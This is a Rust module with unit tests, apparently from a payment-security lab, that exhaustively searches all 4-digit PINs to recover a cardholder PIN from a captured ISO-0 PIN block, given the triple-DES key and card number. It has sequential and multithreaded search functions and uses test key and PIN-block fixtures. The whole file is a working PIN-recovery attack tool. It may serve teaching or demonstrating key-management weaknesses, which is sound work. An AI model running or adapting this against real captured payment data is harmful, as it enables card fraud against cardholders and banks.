//! Exhaustive search of the 4-digit PIN space against a captured ISO-0 PIN block

pub mod scenario;

use std::ops::RangeInclusive;
use std::time::{Duration, Instant};

use crate::crypto::pin::{build_pin_block, pan_field};
use crate::crypto::{decode_hex, ErrorKind, PinError, TdesKey, BLOCK_SIZE};

/// Highest candidate a 4-digit PIN can take
pub const MAX_PIN: u32 = 9999;

/// Upper bound on the threads `search_parallel` starts, whatever the caller asks for
pub const MAX_WORKERS: usize = 64;

/// What the attacker knows: the sniffed PIN block, the static key and the PAN
#[derive(Debug, Clone)]
pub struct AttackConfig {
    pub pin_block_hex: String,
    pub key_hex: String,
    pub pan: String,
    pub max_pin: u32,
}

#[derive(Debug, Clone)]
pub struct AttackResult {
    found: bool,
    pin: Option<String>,
    attempts: u32,
    duration: Duration,
}

impl AttackResult {
    pub fn found(&self) -> bool {
        self.found
    }

    pub fn pin(&self) -> Option<&str> {
        self.pin.as_deref()
    }

    /// Number of candidates tried, counting from 1 for PIN 0000
    pub fn attempts(&self) -> u32 {
        self.attempts
    }

    pub fn duration(&self) -> Duration {
        self.duration
    }
}

/// Decoded, validated attack inputs
struct Target {
    pin_block: [u8; BLOCK_SIZE],
    key: TdesKey,
    max_pin: u32,
}

fn prepare(config: &AttackConfig) -> Result<Target, PinError> {
    let raw = decode_hex("captured pin block", &config.pin_block_hex)?;
    if raw.len() != BLOCK_SIZE {
        return Err(PinError::new(ErrorKind::InvalidDataLength,
                                 format!("captured pin block must be {} bytes, got {}", BLOCK_SIZE, raw.len())));
    }
    let mut pin_block = [0u8; BLOCK_SIZE];
    pin_block.copy_from_slice(&raw);

    // a malformed key or PAN fails every candidate, so reject them before the loop
    let key = TdesKey::new(&decode_hex("key", &config.key_hex)?)?;
    pan_field(&config.pan)?;

    let max_pin = if config.max_pin > MAX_PIN {
        warn!("max_pin {} is beyond the 4-digit space, capping at {}", config.max_pin, MAX_PIN);
        MAX_PIN
    } else {
        config.max_pin
    };

    Ok(Target { pin_block, key, max_pin })
}

/// Encrypts the ISO-0 block of a single candidate and compares it to the target.
pub fn try_candidate(key: &TdesKey, c_pin: &str, pan: &str, target: &[u8; BLOCK_SIZE]) -> Result<bool, PinError> {
    let encrypted = key.encrypt(&build_pin_block(c_pin, pan)?);
    trace!("candidate {} -> {}", c_pin, hex::encode_upper(encrypted));
    Ok(&encrypted == target)
}

/// Scans `range` in ascending order and returns the first matching PIN value
fn scan(key: &TdesKey, pan: &str, target: &[u8; BLOCK_SIZE], range: RangeInclusive<u32>) -> Result<Option<u32>, PinError> {
    for pin in range {
        if try_candidate(key, &format!("{:04}", pin), pan, target)? {
            return Ok(Some(pin));
        }
    }
    Ok(None)
}

fn finish(hit: Option<u32>, max_pin: u32, start: Instant) -> AttackResult {
    match hit {
        Some(pin) => AttackResult {
            found: true,
            pin: Some(format!("{:04}", pin)),
            attempts: pin + 1,
            duration: start.elapsed(),
        },
        None => AttackResult {
            found: false,
            pin: None,
            attempts: max_pin + 1,
            duration: start.elapsed(),
        },
    }
}

/// Tries every PIN from 0000 to `max_pin` in ascending order and stops at the first match.
///
/// Decoding and key errors are reported before any candidate is tried; running out of
/// candidates is not an error, it yields a result with `found() == false`.
pub fn search(config: &AttackConfig) -> Result<AttackResult, PinError> {
    let start = Instant::now();
    let target = prepare(config)?;

    debug!("searching 0000..={:04} for {}", target.max_pin, hex::encode_upper(target.pin_block));
    let hit = scan(&target.key, &config.pan, &target.pin_block, 0..=target.max_pin)?;

    let result = finish(hit, target.max_pin, start);
    info!("search finished: found = {}, attempts = {}, took {:?}", result.found, result.attempts, result.duration);
    Ok(result)
}

/// Same as [`search`], with the PIN space split into contiguous ranges scanned by `workers` threads.
///
/// Workers share nothing but the read-only key; the lowest matching PIN wins, so the result
/// (PIN and attempt count) is the one `search` reports.
pub fn search_parallel(config: &AttackConfig, workers: usize) -> Result<AttackResult, PinError> {
    if workers <= 1 {
        return search(config);
    }

    let start = Instant::now();
    let target = prepare(config)?;

    let total = target.max_pin + 1;
    let workers = workers.min(MAX_WORKERS).min(total as usize) as u32;
    let chunk = (total + workers - 1) / workers;
    let ranges: Vec<RangeInclusive<u32>> = (0..workers)
        .map(|i| i * chunk)
        .take_while(|lo| *lo <= target.max_pin)
        .map(|lo| lo..=(lo + chunk - 1).min(target.max_pin))
        .collect();
    debug!("searching 0000..={:04} with {} workers", target.max_pin, ranges.len());

    let outcomes: Vec<Result<Option<u32>, PinError>> = std::thread::scope(|s| {
        let handles: Vec<_> = ranges.into_iter().map(|range| {
            let key = &target.key;
            let pin_block = &target.pin_block;
            let pan = config.pan.as_str();
            s.spawn(move || scan(key, pan, pin_block, range))
        }).collect();

        handles.into_iter()
            .map(|h| h.join().unwrap_or_else(|_| Err(PinError::new(ErrorKind::Worker, "search worker panicked"))))
            .collect()
    });

    // ranges are ascending, so the first hit is the lowest PIN
    let mut hit = None;
    for outcome in outcomes {
        if let Some(pin) = outcome? {
            hit = Some(pin);
            break;
        }
    }

    let result = finish(hit, target.max_pin, start);
    info!("parallel search finished: found = {}, attempts = {}, took {:?}", result.found, result.attempts, result.duration);
    Ok(result)
}


#[cfg(test)]
mod tests {
    use crate::attack::{search, search_parallel, try_candidate, AttackConfig, MAX_PIN, MAX_WORKERS};
    use crate::crypto::{ErrorKind, TdesKey};
    use hex_literal::hex;

    const KEY: &str = "0123456789ABCDEFFEDCBA9876543210";
    const PAN: &str = "4111111111111111";
    const CAPTURED: &str = "2A3D408A1977DDE9";

    fn config(pin_block_hex: &str, key_hex: &str, max_pin: u32) -> AttackConfig {
        AttackConfig {
            pin_block_hex: pin_block_hex.to_string(),
            key_hex: key_hex.to_string(),
            pan: PAN.to_string(),
            max_pin,
        }
    }

    #[test]
    fn test_recovers_pin() {
        let res = search(&config(CAPTURED, KEY, MAX_PIN)).unwrap();
        assert!(res.found());
        assert_eq!(res.pin(), Some("1234"));
        assert_eq!(res.attempts(), 1235);
    }

    #[test]
    fn test_target_hex_is_case_insensitive() {
        let res = search(&config(&CAPTURED.to_lowercase(), &KEY.to_lowercase(), MAX_PIN)).unwrap();
        assert_eq!(res.pin(), Some("1234"));
    }

    #[test]
    fn test_wrong_key_exhausts_range() {
        let res = search(&config(CAPTURED, "FEDCBA98765432100123456789ABCDEF", MAX_PIN)).unwrap();
        assert!(!res.found());
        assert_eq!(res.pin(), None);
        assert_eq!(res.attempts(), 10000);
    }

    #[test]
    fn test_range_below_pin() {
        let res = search(&config(CAPTURED, KEY, 1233)).unwrap();
        assert!(!res.found());
        assert_eq!(res.attempts(), 1234);
    }

    #[test]
    fn test_boundary_pins_reachable() {
        // PIN 0000 and PIN 9999 under the lab key and PAN
        let first = search(&config("EAC33E95DB5A30E6", KEY, MAX_PIN)).unwrap();
        assert_eq!(first.pin(), Some("0000"));
        assert_eq!(first.attempts(), 1);

        let last = search(&config("B1C53974BFA66099", KEY, MAX_PIN)).unwrap();
        assert_eq!(last.pin(), Some("9999"));
        assert_eq!(last.attempts(), 10000);
    }

    #[test]
    fn test_max_pin_is_capped() {
        let res = search(&config(CAPTURED, "FEDCBA98765432100123456789ABCDEF", 123_456)).unwrap();
        assert_eq!(res.attempts(), MAX_PIN + 1);
    }

    #[test]
    fn test_bad_hex_is_reported() {
        match search(&config("2A3D408A1977DDZZ", KEY, MAX_PIN)) {
            Ok(_) => assert!(false, "bad target accepted"),
            Err(e) => assert_eq!(e.kind, ErrorKind::Decode),
        }
        match search(&config(CAPTURED, "not a key", MAX_PIN)) {
            Ok(_) => assert!(false, "bad key accepted"),
            Err(e) => assert_eq!(e.kind, ErrorKind::Decode),
        }
    }

    #[test]
    fn test_malformed_key_fails_fast() {
        match search(&config(CAPTURED, "0123456789ABCDEF", MAX_PIN)) {
            Ok(_) => assert!(false, "single length key accepted"),
            Err(e) => assert_eq!(e.kind, ErrorKind::InvalidKeyLength),
        }
    }

    #[test]
    fn test_short_pan_fails_fast() {
        let mut cfg = config(CAPTURED, KEY, MAX_PIN);
        cfg.pan = "411111111111".to_string();
        match search(&cfg) {
            Ok(_) => assert!(false, "short pan accepted"),
            Err(e) => assert_eq!(e.kind, ErrorKind::InvalidPan),
        }
    }

    #[test]
    fn test_try_candidate() {
        let key = TdesKey::new(&hex!("0123456789ABCDEFFEDCBA9876543210")).unwrap();
        let target = hex!("2A3D408A1977DDE9");
        assert!(try_candidate(&key, "1234", PAN, &target).unwrap());
        assert!(!try_candidate(&key, "1235", PAN, &target).unwrap());
    }

    #[test]
    fn test_parallel_matches_sequential() {
        let cfg = config(CAPTURED, KEY, MAX_PIN);
        let seq = search(&cfg).unwrap();
        for workers in [1usize, 2, 3, 7, 16].iter() {
            let par = search_parallel(&cfg, *workers).unwrap();
            assert_eq!(par.pin(), seq.pin());
            assert_eq!(par.attempts(), seq.attempts());
        }
    }

    #[test]
    fn test_parallel_huge_worker_count() {
        let cfg = config(CAPTURED, KEY, MAX_PIN);
        for workers in [MAX_WORKERS + 1, u32::MAX as usize, usize::MAX].iter() {
            let res = search_parallel(&cfg, *workers).unwrap();
            assert_eq!(res.pin(), Some("1234"));
            assert_eq!(res.attempts(), 1235);
        }
    }

    #[test]
    fn test_parallel_more_workers_than_candidates() {
        let res = search_parallel(&config("EAC33E95DB5A30E6", KEY, 2), 10).unwrap();
        assert_eq!(res.pin(), Some("0000"));
        assert_eq!(res.attempts(), 1);
    }

    #[test]
    fn test_parallel_exhausts_range() {
        let res = search_parallel(&config(CAPTURED, "FEDCBA98765432100123456789ABCDEF", MAX_PIN), 4).unwrap();
        assert!(!res.found());
        assert_eq!(res.attempts(), 10000);
    }
}
